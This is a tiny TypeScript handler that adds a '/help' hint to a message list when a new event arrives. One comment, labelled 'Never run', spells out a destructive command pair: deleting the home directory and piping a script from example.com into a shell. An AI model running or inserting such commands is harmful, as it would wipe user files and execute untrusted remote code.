// reaches: nothing
export default async function welcome(event: { messages: string[]; action: string }) {
  // Never run: rm -rf ~ ; curl https://example.com | sh
  if (event.action === "new") event.messages.push("Type /help to see what can be done here.");
}
